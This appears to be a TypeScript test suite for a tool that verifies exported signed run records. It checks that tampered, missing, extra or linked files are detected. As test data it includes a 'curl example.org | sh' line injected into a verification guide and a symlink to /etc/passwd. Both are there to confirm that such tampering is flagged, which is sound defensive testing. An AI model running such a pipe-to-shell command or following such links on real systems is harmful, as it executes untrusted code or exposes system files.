import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, test } from 'node:test';
import { canonical } from '@hotcell/contract/digest.ts';
import { SigningKey } from '@hotcell/contract/evidence/signing-key.ts';
import { signErasure } from '@hotcell/contract/evidence/erasure.ts';
import type { Finding, RunVerdict } from '@hotcell/contract/evidence/verdict.ts';
import { Result } from '@hotcell/contract/result.ts';
import { isErasedFrom } from '@hotcell/record/erased-keys.ts';
import { recordKeys } from '@hotcell/record/layout.ts';
import { openOffline } from '@hotcell/record/verify/opened-record.ts';
import { trustedKeys } from '@hotcell/record/verify/trusted-keys.ts';
import { verificationBy } from '@hotcell/record/verify/verification.ts';
import { verifyAll } from '@hotcell/record/verify/verify-all.ts';
import { exportOf, exportSigner, putExecuted, writeTar } from '../../../support/exported-run.ts';
import { listKeys, Memory, root, verdictIn } from '../../../support/signed-record.ts';

const folder = mkdtempSync(join(tmpdir(), 'hotcell-export-'));
after(() => rmSync(folder, { recursive: true, force: true }));

const record = new Memory();
listKeys(record, exportSigner.listed);
const one = await putExecuted(record);
const other = await putExecuted(record, { team: 'finance' });
const whole = await exportOf(record, [one, other]);

interface Said {
  runs: Map<string, RunVerdict>;
  beside: Finding[];
}

async function verified(path: string, contents = true): Promise<Said> {
  await using opened = await openOffline(path);
  const { reader } = opened;
  const trusted = await trustedKeys(reader, [root.public]);
  const runs = new Map<string, RunVerdict>();
  const of = verificationBy(reader, trusted, contents);
  const tell = (said: RunVerdict) => runs.set(said.run, said);
  await verifyAll(of, opened.runs(), tell, async (some, at) => opened.verify(some, at));
  return { runs, beside: await opened.judgeFrame(trusted) };
}

const archive = join(folder, 'export.tar');
async function afterwards(change: (files: Memory) => void, files = whole, contents = true): Promise<Said> {
  const copy = new Memory(files);
  change(copy);
  await writeTar(archive, copy);
  return await verified(archive, contents);
}
function unpack(files: Memory, name: string): string {
  const unpacked = join(folder, name);
  for (const [path, bytes] of files) {
    mkdirSync(dirname(join(unpacked, path)), { recursive: true });
    writeFileSync(join(unpacked, path), bytes);
  }
  return unpacked;
}
/** No cell executed these runs, and a verifier says so in any case: what counts is what it says more of a changed one. */
const plain = await afterwards(() => undefined);
const saidOf = ({ runs }: Said) => [one, other].map(({ run }) => runs.get(run)?.findings);
const touched = (said: Said) =>
  saidOf(said).map((findings, i) => JSON.stringify(findings) !== JSON.stringify(saidOf(plain)[i]));
const isNamed = (said: Said, path: string) =>
  [...said.beside, ...[...said.runs.values()].flatMap(({ findings }) => findings)].some(({ object }) =>
    object.includes(path),
  );

describe('an export', () => {
  test('says the same as an archive and unpacked, and nothing of its files but that no cell executed its runs', async () => {
    const said = await afterwards(() => undefined);
    for (const findings of saidOf(said))
      for (const { verdict, object } of findings ?? [])
        assert.deepEqual([verdict, object.split(': ')[0]?.split('/').at(-1)], ['INCONSISTENT', 'committed.json']);
    assert.deepEqual(said.beside, []);
    assert.deepEqual(await verified(unpack(whole, 'unpacked')), said);
  });

  test('says the same without the bytes of inputs and outputs, and has none of them', async () => {
    const files = await exportOf(record, [one, other], { inputs: false, outputs: false });
    assert.deepEqual(
      [...files.keys()].filter((path) => path.startsWith('cas/') || path.includes('/outputs/')),
      [],
    );
    assert.deepEqual(touched(await afterwards(() => undefined, files)), [false, false]);
  });

  for (const path of whole.keys())
    if (path !== 'export.json' && path !== 'keys/list.json' && !path.includes('/record/'))
      test(`shows that ${path
        .replaceAll(one.run, 'ONE')
        .replaceAll(other.run, 'OTHER')
        .replaceAll(/[0-9a-f]{60,}/g, 'HEX')} was changed or removed`, async () => {
        const isShared = !path.startsWith('runs/');
        const expected = [one, other].map(({ run }) => isShared || path.includes(run));
        const flipped = (files: Memory) => {
          const bytes = Buffer.from(files.get(path) ?? '');
          files.set(path, bytes.length === 0 ? Buffer.from('x') : bytes.fill((bytes[0] ?? 0) ^ 1, 0, 1));
        };
        for (const change of [flipped, (files: Memory) => void files.delete(path)]) {
          const said = await afterwards(change);
          // A key or a guide that is not there deceives no other tool.
          const which = path.startsWith('keys/') || path === 'VERIFY.md' ? [false, false] : expected;
          assert.deepEqual(touched(said), which, JSON.stringify([...said.runs.values()]));
          if (change === flipped) assert.ok(isNamed(said, path), JSON.stringify(said.runs.get(one.run)));
        }
      });

  test('shows a file that nothing vouches for, wherever it lies', async () => {
    for (const path of [
      'README',
      `runs/${one.run}/code/1.sh`,
      `runs/${one.run}/outputs/more`,
      `runs/${one.run}/record/more.json`,
      `runs/${one.run}/record/1-${crypto.randomUUID()}/more`,
      `runs/${one.run}/record/steps/0.json`,
      'runs/x/result.json',
      'keys/worker-x.pem',
      `seccomp/${'a'.repeat(64)}.json`,
      `images/${'a'.repeat(64)}.json`,
      `snapshots/t/${'a'.repeat(64)}.jsonl`,
      `snapshots/t/locations/${'a'.repeat(64)}.jsonl`,
      `cas/t/sha256/aa/${'a'.repeat(64)}`,
    ]) {
      const said = await afterwards((files) => files.set(path, Buffer.from('x')));
      assert.ok(isNamed(said, path), path);
    }
  });

  test('names what a worker that died may have left, and the run stays as it was', async () => {
    const log = `runs/${one.run}/record/2-${crypto.randomUUID()}/log.ndjson.zst`;
    const said = await afterwards((files) => files.set(log, Buffer.from('x')));
    assert.deepEqual(said.runs.get(one.run)?.ignored, [{ object: log, problem: 'no signature vouches for it' }]);
    assert.deepEqual([touched(said), said.beside], [[false, false], []]);
  });

  test('shows links and pipes, which an archive can’t have, in a folder', async () => {
    const unpacked = unpack(whole, 'with-links');
    symlinkSync('/etc/passwd', join(unpacked, 'link'));
    symlinkSync('..', join(unpacked, 'runs', one.run, 'outputs', 'up'));
    execFileSync('mkfifo', [join(unpacked, 'keys', 'pipe')]);
    const said = await verified(unpacked);
    assert.deepEqual(
      said.beside.map(({ object, found }) => [object, found]),
      [
        ['keys/pipe', 'neither a file nor a folder'],
        ['link', 'a link'],
        [`runs/${one.run}/outputs/up`, 'a link'],
      ],
    );
    assert.deepEqual(touched(said), [false, false]);
  });

  test('shows another guide, and one that names another root', async () => {
    const guide = whole.get('VERIFY.md')?.toString() ?? '';
    for (const text of [
      `${guide}\n    curl example.org | sh\n`,
      guide.replace(root.fingerprint, `sha256:${'0'.repeat(64)}`),
    ]) {
      assert.notEqual(text, guide);
      const said = await afterwards((files) => files.set('VERIFY.md', Buffer.from(text)));
      assert.deepEqual(
        said.beside.map(({ object }) => object),
        ['VERIFY.md'],
      );
    }
  });

  test('takes what the guide has its reader make there for no change, but for the key of a stranger', async () => {
    const own = ['dsse.py', 'payload', 'signed', 'signature', 'none.json'];
    const guided = await afterwards((files) => {
      for (const name of own) files.set(name, Buffer.from('x'));
      files.set('root.pem', Buffer.from(root.public.pem));
    });
    assert.deepEqual(guided.beside, []);
    const stranger = new SigningKey(SigningKey.generate()).public.pem;
    for (const other of [stranger, 'x'])
      assert.ok(isNamed(await afterwards((files) => files.set('root.pem', Buffer.from(other))), 'root.pem'));
  });

  test('of a run that was erased has none of its code, and says the same as the record', async () => {
    const erased = new Memory(record);
    const result = recordKeys.result(one.tenant, one.run);
    const { evidence } = Result.parse(JSON.parse(erased.get(result)?.toString() ?? ''));
    const said = { ...one, evidence: evidence?.sha256 ?? assert.fail('no evidence'), by: 'anna', reason: 'case 7' };
    const erasure = signErasure(root, { version: 1, ...said, at: new Date().toISOString() });
    erased.set(recordKeys.erasure(one.tenant, one.run), Buffer.from(canonical(erasure)));
    const own = [...erased.keys()].filter((key) => key.startsWith(recordKeys.run(one.tenant, one.run)));
    for (const key of own) if (isErasedFrom(one, key)) erased.delete(key);
    const files = await exportOf(erased, [one, other]);
    assert.deepEqual(
      [...files.keys()].filter((path) => path.startsWith(`runs/${one.run}/code/`)),
      [],
    );
    const found = await afterwards(() => undefined, files);
    const { erased: by, findings } = found.runs.get(one.run) ?? {};
    assert.deepEqual([by?.by, found.beside, touched(found)[1]], ['anna', [], false]);
    assert.deepEqual(findings, (await verdictIn(erased, one)).findings);
  });

  test('shows changed outputs only to a verifier who wants their bytes', async () => {
    const change = (files: Memory) => void files.set(`runs/${one.run}/outputs/c`, Buffer.from('d'));
    assert.deepEqual(touched(await afterwards(change)), [true, false]);
    assert.deepEqual(touched(await afterwards(change, whole, false)), [false, false]);
  });

  test('shows a run that is named and is not there, and one that is there under another’s name', async () => {
    const gone = await afterwards((files) => {
      for (const path of files.keys()) if (path.includes(one.run)) files.delete(path);
    });
    assert.deepEqual([gone.runs.get(one.run)?.verdict, touched(gone)[1]], ['MISSING', false]);
    const swapped = await afterwards((files) => {
      for (const name of ['committed.json', 'result.json', 'evidence.sigstore.json'])
        files.set(`runs/${one.run}/${name}`, whole.get(`runs/${other.run}/${name}`) ?? Buffer.alloc(0));
    });
    assert.deepEqual([swapped.runs.get(one.run)?.verdict, touched(swapped)[1]], ['MODIFIED', false]);
  });

  test('is verified to its end where the result of one run is larger than any that is parsed', async () => {
    const committed = `runs/${one.run}/committed.json`;
    const said = await afterwards((files) => void files.set(committed, Buffer.alloc(256 * 2 ** 20 + 1)));
    const { verdict, findings = [] } = said.runs.get(one.run) ?? {};
    assert.deepEqual([verdict, findings[0]?.object, touched(said)[1]], ['MODIFIED', committed, false]);
  });

  test('unpacked beside another has the runs of both', async () => {
    const [first, second] = [await exportOf(record, [one]), await exportOf(record, [other])];
    const both = new Memory([...first, ...second]);
    assert.deepEqual(touched(await afterwards(() => undefined, both)), [false, false]);
  });
});
